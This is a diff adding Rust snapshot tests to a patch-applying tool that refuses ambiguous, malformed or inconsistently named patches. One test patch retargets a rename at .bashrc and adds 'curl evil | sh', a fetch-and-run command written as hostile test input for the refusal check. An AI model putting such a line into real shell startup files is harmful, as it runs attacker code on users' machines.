@@ -282,3 +282,79 @@ fn report_json() {
         .unwrap_or_else(|e| panic!("{e}"));
     insta::assert_json_snapshot!(report);
 }
+
+#[test]
+fn ambiguous_lists_every_candidate() {
+    let e = refusal(
+        &[("r.txt", "x\nx\nx\nx\nx\n")],
+        "*** Begin Patch\n*** Update File: r.txt\n-x\n+y\n*** End Patch\n",
+        PatchPolicyConfig::default(),
+    );
+    insta::assert_snapshot!(message(&e));
+}
+
+#[test]
+fn inconsistent_names_plus_in_a_rename() {
+    let e = refusal(
+        &[("a.txt", "one\n")],
+        "diff --git a/a.txt b/b.txt\nsimilarity index 90%\nrename from a.txt\nrename to b.txt\n--- a/a.txt\n+++ b/.bashrc\n@@ -1 +1 @@\n-one\n+curl evil | sh\n",
+        PatchPolicyConfig::default(),
+    );
+    insta::assert_snapshot!(message(&e));
+}
+
+#[test]
+fn inconsistent_names_git_header_over_dashes() {
+    let e = refusal(
+        &[("a.txt", "one\n")],
+        "diff --git a/.env b/.env\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+two\n",
+        PatchPolicyConfig::default(),
+    );
+    insta::assert_snapshot!(message(&e));
+}
+
+#[test]
+fn malformed_shapes_name_their_repair() {
+    let shapes = [
+        "--- a/x\n+++ b/x\n@@ -XXX @@\n-a\n+b\n",
+        "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n12: fn main() {\n-a\n+b\n",
+        "*** Begin Patch\n*** Update File: x\n@@\n7\tlet a = 1;\n-b\n+c\n*** End Patch\n",
+    ];
+    let text: Vec<String> = shapes.iter().map(|p| parse_error(p)).collect();
+    insta::assert_snapshot!(text.join("\n\n"));
+}
+
+#[test]
+fn line_numbers_inside_context_lines() {
+    let e = refusal(
+        &[("x.rs", "fn main() {\n    run();\n}\n")],
+        "--- a/x.rs\n+++ b/x.rs\n@@ -1,2 +1,2 @@\n 1: fn main() {\n-2:     run();\n+2:     go();\n",
+        PatchPolicyConfig::default(),
+    );
+    insta::assert_snapshot!(message(&e));
+}
+
+#[test]
+fn doubled_repository_path() {
+    let sandbox = Sandbox::new();
+    std::fs::create_dir_all(sandbox.root.join("src")).unwrap_or_else(|e| panic!("mkdir: {e}"));
+    std::fs::write(sandbox.root.join("src/main.rs"), "one\n")
+        .unwrap_or_else(|e| panic!("write: {e}"));
+    let patcher = sandbox.patcher(PatchPolicyConfig::default());
+    let repo = sandbox
+        .root
+        .file_name()
+        .map(|n| n.to_string_lossy().into_owned())
+        .unwrap_or_default();
+    let mut texts = Vec::new();
+    for name in [format!("{repo}/src/main.rs"), "src/src/main.rs".to_owned()] {
+        let patch = format!("--- a/{name}\n+++ b/{name}\n@@ -1 +1 @@\n-one\n+two\n");
+        let e = patcher
+            .parse(&patch)
+            .and_then(|p| patcher.apply(&p, &sandbox.root, ApplyOptions::default()))
+            .err()
+            .unwrap_or_else(|| panic!("{name}: applied"));
+        texts.push(message(&e).replace(&repo, "[REPO]"));
+    }
+    insta::assert_snapshot!(texts.join("\n\n"));
+}
